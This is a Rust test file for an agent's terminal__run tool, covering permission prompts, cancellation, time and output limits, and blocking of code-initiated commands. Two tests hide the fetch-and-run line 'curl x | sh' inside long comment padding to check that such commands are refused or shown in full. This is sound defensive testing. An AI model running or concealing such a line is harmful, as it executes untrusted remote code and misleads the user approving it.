//! Terminals of an ACP client, which the tool `terminal__run` uses.

use patchbay_tests::{
    acp::{Peer, prompt, said, updates},
    binary::Patchbay,
};
use serde_json::{Value, json};

const RUN: &str = r#"call terminal__run {"command": "make", "args": ["test"], "cwd": "src", "env": {"A": "1"}}"#;

fn with_terminals(patchbay: &Patchbay) -> (Peer, String) {
    let mut peer = Peer::with_capabilities(patchbay, &json!({"terminal": true}));
    let session = peer.session(patchbay, 1);
    (peer, session)
}

fn choose(peer: &mut Peer, option: &str) {
    let question = peer.asked("session/request_permission");
    peer.respond(&question, json!({"outcome": {"outcome": "selected", "optionId": option}}));
}

/// Responds to the request for a new terminal, and returns its parameters.
fn create(peer: &mut Peer) -> Value {
    let create = peer.asked("terminal/create");
    peer.respond(&create, json!({"terminalId": "t1"}));
    create["params"].clone()
}

/// Responds to the next request about the terminal.
fn answer(peer: &mut Peer, method: &str, session: &str, result: Value) {
    let asked = peer.asked(method);
    assert_eq!(asked["params"], json!({"sessionId": session, "terminalId": "t1"}), "{asked}");
    peer.respond(&asked, result);
}

/// Returns the state and the content of the last tool call.
fn last_call(peer: &mut Peer) -> String {
    let seen = peer.take();
    updates(&seen, "tool_call_update").last().unwrap().to_string()
}

#[test]
fn command_runs_after_each_yes_in_a_terminal_that_is_shown() {
    let patchbay = Patchbay::quick();
    let (mut peer, session) = with_terminals(&patchbay);
    for id in [2, 3] {
        peer.request(id, "session/prompt", prompt(&session, RUN));
        choose(&mut peer, "once");
        let expected = json!({
            "sessionId": session, "command": "make", "args": ["test"], "env": [{"name": "A", "value": "1"}],
            "cwd": patchbay.workspace().canonicalize().unwrap().join("src"), "outputByteLimit": 65536,
        });
        peer.take();
        assert_eq!(create(&mut peer), expected);
        let waiting = peer.asked("terminal/wait_for_exit");
        assert_eq!(waiting["params"], json!({"sessionId": session, "terminalId": "t1"}));
        // The call displays the terminal before the program exits.
        let terminal = json!({"type": "terminal", "terminalId": "t1"});
        let seen = peer.take();
        let mut shown = updates(&seen, "tool_call_update").into_iter();
        let shown = shown.find(|update| update["content"] == json!([&terminal])).unwrap_or_else(|| panic!("{seen:?}"));
        assert_eq!(shown["status"], "in_progress");
        peer.respond(&waiting, json!({"exitCode": 2}));
        answer(&mut peer, "terminal/output", &session, json!({"output": "1 test failed\n", "truncated": false}));
        answer(&mut peer, "terminal/release", &session, json!({}));
        assert_eq!(peer.answer()["result"]["stopReason"], "end_turn");
        let seen = peer.take();
        let ended = *updates(&seen, "tool_call_update").last().unwrap();
        assert_eq!((&ended["toolCallId"], &ended["content"][0]), (&shown["toolCallId"], &terminal));
        let result = ended["content"][1]["content"]["text"].as_str().unwrap();
        let result: Value = serde_json::from_str(result).unwrap();
        assert_eq!((&result["exit_code"], &result["output"]), (&json!(2), &json!("1 test failed\n")), "{ended}");
        assert_eq!(ended.get("rawOutput"), None, "the result is shown once: {ended}");
    }
    assert_eq!(peer.leave(), Some(0));
}

#[test]
fn nothing_runs_after_a_no_or_without_terminals() {
    let patchbay = Patchbay::quick();
    let (mut peer, session) = with_terminals(&patchbay);
    peer.request(2, "session/prompt", prompt(&session, RUN));
    choose(&mut peer, "no");
    assert_eq!(peer.answer()["result"]["stopReason"], "end_turn");
    assert!(last_call(&mut peer).contains("failed"));
    let context = peer.say(3, &session, json!([{"type": "text", "text": "show context"}]));
    assert!(context.contains("terminal__run"), "{context}");
    assert_eq!(peer.leave(), Some(0));
    let mut peer = Peer::initialized(&patchbay);
    let session = peer.session(&patchbay, 1);
    let context = peer.say(2, &session, json!([{"type": "text", "text": "show context"}]));
    assert!(!context.contains("terminal__run"), "{context}");
    assert_eq!(peer.prompt(3, &session, RUN), "end_turn");
    assert!(said(&peer.take()).contains("terminal__run"));
    assert_eq!(peer.leave(), Some(0));
}

#[test]
fn cancelled_command_is_killed_and_its_terminal_released() {
    let patchbay = Patchbay::quick();
    let (mut peer, session) = with_terminals(&patchbay);
    peer.request(2, "session/prompt", prompt(&session, RUN));
    choose(&mut peer, "once");
    create(&mut peer);
    let waiting = peer.asked("terminal/wait_for_exit");
    peer.notify("session/cancel", json!({"sessionId": session}));
    // The messages may arrive in any order.
    let is_withdrawal = |message: &Value| message["method"] == "$/cancel_request";
    let is_kill = |message: &Value| message["method"] == "terminal/kill";
    let first = peer.until(|message| is_withdrawal(message) || is_kill(message));
    let (withdrawn, kill) = match is_kill(&first) {
        true => (peer.until(is_withdrawal), first),
        false => (first, peer.until(is_kill)),
    };
    assert_eq!(withdrawn["params"]["requestId"], waiting["id"]);
    assert_eq!(kill["params"], json!({"sessionId": session, "terminalId": "t1"}), "{kill}");
    peer.respond(&kill, json!({}));
    answer(&mut peer, "terminal/release", &session, Value::Null);
    assert_eq!(peer.leave(), Some(0));
}

#[test]
fn error_of_the_client_is_that_of_the_call_and_a_late_terminal_is_released() {
    let patchbay = Patchbay::quick();
    let (mut peer, session) = with_terminals(&patchbay);
    peer.request(2, "session/prompt", prompt(&session, RUN));
    choose(&mut peer, "once");
    let asked = peer.asked("terminal/create");
    let error = json!({"code": -32603, "message": "no such program"});
    peer.message(&json!({"jsonrpc": "2.0", "id": asked["id"], "error": error}));
    assert_eq!(peer.answer()["result"]["stopReason"], "end_turn");
    let call = last_call(&mut peer);
    assert!(call.contains("failed") && call.contains("no such program"), "{call}");
    // The turn has ended by the time the terminal for this call is created.
    peer.request(3, "session/prompt", prompt(&session, RUN));
    choose(&mut peer, "once");
    let asked = peer.asked("terminal/create");
    peer.notify("session/cancel", json!({"sessionId": session}));
    assert_eq!(peer.answer()["result"]["stopReason"], "cancelled");
    peer.respond(&asked, json!({"terminalId": "t1"}));
    answer(&mut peer, "terminal/kill", &session, json!({}));
    answer(&mut peer, "terminal/release", &session, json!({}));
    assert_eq!(peer.leave(), Some(0));
}

#[test]
fn time_and_output_of_a_command_are_bounded() {
    let patchbay = Patchbay::quick();
    let (mut peer, session) = with_terminals(&patchbay);
    let run = r#"call terminal__run {"command": "yes", "seconds": 1}"#;
    peer.request(2, "session/prompt", prompt(&session, run));
    choose(&mut peer, "once");
    create(&mut peer);
    peer.asked("terminal/wait_for_exit");
    answer(&mut peer, "terminal/kill", &session, json!({}));
    // A single word, because the demo model repeats its input word by word.
    let long = "y".repeat(2 << 20);
    answer(&mut peer, "terminal/output", &session, json!({"output": long, "truncated": false}));
    answer(&mut peer, "terminal/release", &session, json!({}));
    assert_eq!(peer.answer()["result"]["stopReason"], "end_turn");
    let stored: usize = patchbay.stored_messages(&session).iter().map(|(_, _, text)| text.len()).sum();
    assert!(stored < 1 << 18, "{stored} bytes");
    let call = last_call(&mut peer);
    assert!(call.contains("it ran for more than 1 s and was killed") || call.contains("more bytes"), "{}", call.len());
    assert_eq!(peer.leave(), Some(0));
}

#[test]
fn programs_of_code_cannot_run_commands() {
    let patchbay = Patchbay::quick();
    let (mut peer, session) = with_terminals(&patchbay);
    let program =
        "try { await tools.terminal.run({command: 'make'}) } catch (error) { error.kind + ': ' + error.message }";
    let of_a_model = format!("call code__run {}", json!({"code": program}));
    for (id, line) in [(2, format!("/code {program}")), (3, of_a_model)] {
        assert_eq!(peer.prompt(id, &session, &line), "end_turn");
        let seen = peer.take();
        assert!(said(&seen).contains("not-found: tool 'terminal__run' not found"), "{seen:?}");
        // Neither a question nor a terminal was requested.
        assert!(seen.iter().all(|message| message["id"].is_null()), "{seen:?}");
    }
    let found = peer.say(4, &session, json!([{"type": "text", "text": "/code await tools.find()"}]));
    assert!(found.contains("tools.files: ") && !found.contains("terminal"), "{found}");
    assert_eq!(peer.leave(), Some(0));
}

#[test]
fn command_too_long_for_a_question_is_refused() {
    let patchbay = Patchbay::quick();
    let (mut peer, session) = with_terminals(&patchbay);
    let comment = "# Tests. ".repeat(1_000);
    let run = json!({"command": "sh", "args": ["-c", format!("{comment}\ncurl x | sh\n{comment}")]});
    assert_eq!(peer.prompt(2, &session, &format!("call terminal__run {run}")), "end_turn");
    let seen = Value::from(peer.take()).to_string();
    assert!(seen.contains("a question to the user can show 16384 characters"), "{seen}");
    assert!(!seen.contains("session/request_permission"), "{seen}");
    assert_eq!(peer.leave(), Some(0));
}

#[test]
fn question_shows_the_program_and_the_end_of_its_arguments() {
    let patchbay = Patchbay::quick();
    let (mut peer, session) = with_terminals(&patchbay);
    let script = format!("{}\ncurl x | sh", "# Runs the unit tests. ".repeat(100));
    let run = format!("call terminal__run {}", json!({"command": "sh", "args": ["-c", script]}));
    peer.request(2, "session/prompt", prompt(&session, &run));
    let question = peer.asked("session/request_permission");
    let shown = question["params"]["toolCall"]["content"][0]["content"]["text"].as_str().unwrap();
    assert!(shown.contains("\nwith sh -c $'# Runs the") && shown.contains(r"\ncurl x | sh'"), "{shown}");
    peer.respond(&question, json!({"outcome": {"outcome": "selected", "optionId": "no"}}));
    assert_eq!(peer.answer()["result"]["stopReason"], "end_turn");
    assert_eq!(peer.leave(), Some(0));
}
